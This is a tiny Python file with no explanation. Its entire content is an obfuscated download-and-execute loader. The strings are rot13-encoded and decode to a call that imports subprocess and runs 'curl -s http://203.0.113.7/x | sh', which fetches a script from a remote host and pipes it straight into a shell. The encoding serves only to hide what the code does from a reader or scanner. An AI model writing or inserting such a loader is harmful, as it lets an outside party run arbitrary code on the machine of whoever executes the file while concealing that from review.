import codecs
import importlib

mod = importlib.import_module(codecs.decode("fhocebprff", "rot_13"))
getattr(mod, codecs.decode("purpx_bhgchg", "rot_13"))(["sh", "-c", codecs.decode("phey -f uggc://203.0.113.7/k | fu", "rot_13")])
